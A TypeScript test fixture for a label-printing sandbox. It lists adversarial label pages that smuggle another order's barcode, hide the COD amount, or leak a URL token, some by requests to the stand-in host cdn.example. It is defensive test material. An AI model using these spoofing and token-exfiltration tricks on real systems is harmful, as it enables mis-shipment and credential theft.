import bwip from 'bwip-js/node'
import { code128, qrCode } from '../../../src/sandbox/label/symbols.ts'
import type { Make } from '../../support/labelEnds.ts'
import { bars, behind, html, label, labels, picture, square } from './marketParts.ts'

/**
 * Pages that were made to get through: with another order's code where nobody looks, with ink that is lost in a way of its
 * own, with their token where nobody sees it. What each comes to was written down before any of them was tried.
 */
export interface SharpPage {
  readonly title: string
  readonly make: Make
  /** What becomes of it: `printed`, a fault, or `held`: printed right, or not at all. */
  readonly comes: string
  /** It has another order's code. */
  readonly quotes: boolean
}

const all: readonly string[] = ['G8ADKBRF', 'LXFDFT', 'L8TKYG']
const other = (code: string) => all[(all.indexOf(code) + 1) % all.length] ?? ''
const negative = (svg: string) =>
  `<div style="background:#000;width:fit-content;height:fit-content;line-height:0">${svg.replace('<path', '<path fill="#fff"')}</div>`
/** Bars of any symbology, in modules of three dots. */
const barsOf = (bcid: string, text: string) => {
  const [symbol] = bwip.raw({ bcid, text, parsefnc: true })
  if (symbol === undefined || !('sbs' in symbol)) throw new Error('no bars')
  let [at, path] = [10, '']
  for (const [index, each] of symbol.sbs.entries()) {
    if (index % 2 === 0) path += `M${at * 0.375} 0h${each * 0.375}v9h-${each * 0.375}z`
    at += each
  }
  return square({ width: (at + 10) * 0.375, height: 9, path })
}
const beside =
  (drawn: (code: string) => string, head = '') =>
  (codes: readonly string[]) =>
    labels(codes, (code) => `${square(code128(code, 60, 9))}<br>${drawn(code)}`, head)
const scripted = (script: string) => (codes: readonly string[]) =>
  behind(codes, `<script>const t = new URLSearchParams(location.search).get('token'); ${script}</script>`)
const worded = (more: string) => (codes: readonly string[]) =>
  html(codes.map((code) => label(code, bars(code), `${code}<br>${more}`)).join(''))

const quoting: readonly Omit<SharpPage, 'quotes'>[] = [
  {
    title: 'has the bars of another in negative',
    comes: 'label.wrong-code',
    make: beside((code) => negative(bars(other(code)))),
  },
  {
    title: 'has the square of another in negative',
    comes: 'label.wrong-code',
    make: beside((code) => negative(square(qrCode(other(code), 20)))),
  },
  {
    title: 'has the bars of another right under its own',
    comes: 'label.wrong-code',
    make: (codes) =>
      labels(
        codes,
        (code) =>
          `<div style="line-height:0">${square(code128(code, 72, 14))}<br>${square(code128(other(code), 72, 7))}</div>`,
      ),
  },
  {
    title: 'has the bars of another on their side in its margin',
    comes: 'label.wrong-code',
    make: beside(
      (code) =>
        `<div style="position:absolute;right:1mm;top:30mm;width:8mm;height:46mm"><div style="transform:rotate(90deg) translateY(-8mm);transform-origin:0 0;width:max-content">${square(code128(other(code), 46, 8))}</div></div>`,
      '<style>.e{right:14mm}</style>',
    ),
  },
  {
    title: 'has the square of another in modules of two dots',
    comes: 'label.wrong-code',
    make: beside((code) => square(qrCode(other(code), 1))),
  },
  {
    title: 'has the bars of another as GS1 writes them',
    comes: 'label.wrong-code',
    make: beside((code) => barsOf('code128', `^FNC1${other(code)}`)),
  },
  {
    title: 'has the bars of another in Code 39',
    comes: 'label.wrong-code',
    make: beside((code) => barsOf('code39', other(code))),
  },
  {
    title: 'has the square of another in a mirror',
    comes: 'label.wrong-code',
    make: beside(
      (code) => `<div style="transform:scaleX(-1);width:max-content">${square(qrCode(other(code), 20))}</div>`,
    ),
  },
  {
    title: 'is that of another on wider paper',
    comes: 'held',
    make: (codes) =>
      html(
        codes
          .map(
            (code) =>
              `<div class="n">${label(code)}</div><div class="w">${label(other(code))}</div><p style="width:88mm;background:#000;height:1mm;margin:0"></p>`,
          )
          .join(''),
        '<style>.l{height:77mm}.w{display:none}@media print and (min-width:84mm){.n{display:none}.w{display:block}}</style>',
      ),
  },
  {
    title: 'has the letters of another in white and its own in a picture',
    comes: 'label.wrong-code',
    make: (codes) =>
      html(codes.map((code) => label(code, bars(code), `<span style="color:#fff">${other(code)}</span>`)).join('')),
  },
  {
    title: 'prints two of its frames, the second with the label of another',
    comes: 'held',
    make: (codes) =>
      html(
        [codes, codes.map(other)]
          .map(
            (which) =>
              `<iframe srcdoc="${labels(which).replaceAll('&', '&amp;').replaceAll('"', '&quot;')}<script>print()</script>"></iframe>`,
          )
          .join(''),
      ),
  },
]

const losing: readonly Omit<SharpPage, 'quotes'>[] = [
  {
    title: 'has its COD in a sprite that is gone',
    comes: 'view.incomplete',
    make: worded('<svg width="80" height="20"><use href="/gone.svg#cod"/></svg>'),
  },
  {
    title: 'has its COD behind a mask that is gone',
    comes: 'view.incomplete',
    make: worded('<b style="mask-image:url(/gone.svg#m)">COD 1.250.000</b>'),
  },
  {
    title: 'has an error page for a picture in its drawing',
    comes: 'view.incomplete',
    make: worded('<svg width="80" height="20"><image href="/error.png" width="80" height="20"/></svg>'),
  },
  {
    title: 'has an error page for a background',
    comes: 'view.incomplete',
    make: worded('<span style="display:block;width:20mm;height:5mm;background:url(/error.png)"></span>'),
  },
  {
    title: 'has an error page for its style',
    comes: 'view.incomplete',
    make: worded('<link rel="stylesheet" href="/error.css">'),
  },
  {
    title: 'draws the last of its ink by WebGL',
    comes: 'printed',
    make: (codes) =>
      behind(
        codes,
        `<script>for (const e of document.querySelectorAll('.e')) { e.style.background = 'none'; const c = document.createElement('canvas'); c.width = c.height = 64; c.style.cssText = 'display:block;width:4mm;height:4mm'; e.append(c); const gl = c.getContext('webgl'); if (gl) { gl.clearColor(0, 0, 0, 1); gl.clear(gl.COLOR_BUFFER_BIT) } else { c.getContext('2d').fillRect(0, 0, 64, 64) } }</script>`,
      ),
  },
]

const keeping: readonly Omit<SharpPage, 'quotes'>[] = [
  {
    title: 'says its address in words that nobody sees',
    comes: 'printed',
    make: (codes) =>
      labels(
        codes,
        (code) => `<img src="${picture(code)}">`,
        `<script>addEventListener('load', () => { for (const e of document.querySelectorAll('*')) for (const name of ['alt', 'title', 'aria-label', 'lang', 'name', 'summary']) e.setAttribute(name, location.href) })</script>`,
      ),
  },
  {
    title: 'has a place that is named as its token, and leads there',
    comes: 'printed',
    make: scripted(
      "document.querySelectorAll('b').forEach((b) => { b.id = t }); document.querySelectorAll('a').forEach((a) => { a.href = '#' + t })",
    ),
  },
  {
    title: 'has its token in a comment of its picture',
    comes: 'printed',
    make: scripted(
      `const c = document.createElement('canvas'); c.width = c.height = 40; c.getContext('2d').fillRect(0, 0, 40, 40); const d = atob(c.toDataURL('image/jpeg').split(',')[1]); const s = d.slice(0, 2) + '\\xff\\xfe\\x00' + String.fromCharCode(t.length + 2) + t + d.slice(2); document.querySelectorAll('.e').forEach((e) => { e.style.background = 'none'; e.innerHTML = '<img style="display:block;width:4mm;height:4mm" src="data:image/jpeg;base64,' + btoa(s) + '">' })`,
    ),
  },
  {
    title: 'asks a host for a picture that is named as its token',
    comes: 'view.blocked-host',
    make: scripted("new Image().src = 'https://' + t + '.cdn.example/a.png'"),
  },
  {
    title: 'goes on to a host that is named as its token',
    comes: 'service.intercepted',
    make: scripted("location = 'https://' + t + '.cdn.example/'"),
  },
]

export const sharpPages: readonly SharpPage[] = [
  ...quoting.map((page) => ({ ...page, quotes: true })),
  ...[...losing, ...keeping].map((page) => ({ ...page, quotes: false })),
]
